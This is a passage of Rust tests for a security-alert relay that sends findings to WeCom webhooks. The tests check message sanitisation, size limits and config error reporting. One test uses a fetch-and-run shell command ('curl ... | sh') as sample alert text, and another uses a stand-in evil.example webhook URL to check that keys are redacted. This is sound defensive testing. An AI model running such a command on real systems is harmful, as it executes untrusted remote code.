        // Take away what the template itself writes: colour tags, the links (trusted URLs
        // only), bold labels, quote markers and the heading; nothing active may remain.
        let mut rest = text.replace("<@configured>", "");
        for c in ["warning", "info", "comment"] {
            rest = rest.replace(&format!("<font color=\"{c}\">"), "");
        }
        rest = rest.replace("</font>", "");
        let mut links = 0;
        while let Some(at) = rest.find("](") {
            let open = rest[..at].rfind('[').expect("a link label");
            let close = at + rest[at..].find(')').expect("a link end");
            let url = &rest[at + 2..close];
            assert!(
                trusted.iter().any(|t| t == url),
                "{what}: untrusted link {url}"
            );
            rest.replace_range(open..=close, "");
            links += 1;
        }
        assert!(links > 0, "{what}: the trusted links are inline");
        let rest = without_bold_labels(&rest)
            .lines()
            .map(|l| l.trim_start_matches("### ").trim_start_matches("> "))
            .collect::<Vec<_>>()
            .join("\n");
        for bad in ["<", ">", "[", "]", "`", "*", "@", "://", "#"] {
            assert!(!rest.contains(bad), "{what}: {bad:?} in {rest}");
        }
    }
}

#[tokio::test]
async fn wecom_cjk_emoji_and_huge_command_lines_stay_within_4096_bytes() {
    let rules = RobotRules {
        limit: 1_000_000,
        ..Default::default()
    };
    let fake = FakeWeCom::start(&[("big", rules)]).await;
    let s = sink(
        &wecom_sink("lang = \"zh\"\nrate_limit = { period = \"1ms\" }\n"),
        &[("WC_URL", &fake.url("big"))],
    );
    for (i, unit) in [
        "异常登录进程命令行",
        "😀🔥🚨",
        "a异😀\"\\\n",
        "curl http://x | sh ",
    ]
    .iter()
    .enumerate()
    {
        let huge = unit.repeat(100_000 / unit.len() + 1);
        let mut f = finding(i, &huge, Severity::Critical);
        f.description = huge.clone();
        f.details = (0..40)
            .map(|k| Detail {
                name: format!("命令行 {k}"),
                value: huge.clone(),
            })
            .collect();
        let o = deliver(&s, &event_of(f).into()).await;
        assert!(o.is_delivered(), "{unit}: {}", reason(&o));
        let r = fake.log().pop().unwrap();
        assert!(r.text().len() <= 4096, "{unit}: {}", r.text().len());
    }
}

#[test]
fn wecom_config_errors_name_the_key_and_position() {
    let text = "[[source]]\nname = \"prod\"\nregion = \"cn-hangzhou\"\ncredentials = { type = \"access_key\", access_key_id = \"LTAI\", access_key_secret = { env = \"NOT_NEEDED\" } }\n\n\
                [[sink]]\nname = \"wc\"\ntype = \"wecom\"\n\n\
                [[sink]]\nname = \"wc2\"\ntype = \"wecom\"\nurl = \"https://qyapi.weixin.qq.com/cgi-bin/webhook/send\"\n\n\
                [[sink]]\nname = \"wc3\"\ntype = \"wecom\"\nurl = { env = \"WC\" }\nat_user_ids = [\"ok.user\", \"<@all>\"]\nmentioned_list = [\"@all\"]\n";
    let path = std::path::Path::new("/etc/sasrelay/wc.toml");
    let errs = sasrelay::config::parse(path, text).unwrap_err();
    let shown = errs.to_string();
    let find = |key: &str| {
        errs.0
            .iter()
            .find(|e| e.key.starts_with(key))
            .unwrap_or_else(|| panic!("no error for {key}:\n{shown}"))
    };
    let missing = find("sink[0]");
    assert!(missing.message.contains("url"), "{shown}");
    assert_eq!(missing.line, 6, "{shown}");
    let key = find("sink[1].url");
    assert!(key.message.contains("`key`"), "{shown}");
    // Both problems of the third sink, each at its key.
    let unknown = find("sink[2].mentioned_list");
    assert!(
        unknown.message.contains("unknown key `mentioned_list`"),
        "{shown}"
    );
    assert_eq!(unknown.line, 20, "{shown}");
    let mention = find("sink[2].at_user_ids[1]");
    assert_eq!((mention.line, mention.column), (19, 27), "{shown}");
    assert!(shown.contains("/etc/sasrelay/wc.toml:6:"), "{shown}");
    let c: SinkConfig = toml::from_str(
        "name = \"wc\"\ntype = \"wecom\"\nurl = { env = \"WC\" }\nat_user_ids = [\"<@all>\"]\n",
    )
    .unwrap();
    let problems = c.check();
    assert_eq!(problems.len(), 1, "{problems:?}");
    assert_eq!(problems[0].0, "at_user_ids[0]");
    let c: SinkConfig =
        toml::from_str("name = \"wc\"\ntype = \"wecom\"\nurl = { env = \"WC\" }\n").unwrap();
    let e = Sink::build_with(&c, |_| {
        Some("https://evil.example/cgi-bin/webhook/send?key=SECRET-KEY".into())
    })
    .unwrap_err();
    assert!(
        e.contains("evil.example") && !e.contains("SECRET-KEY"),
        "{e}"
    );
}
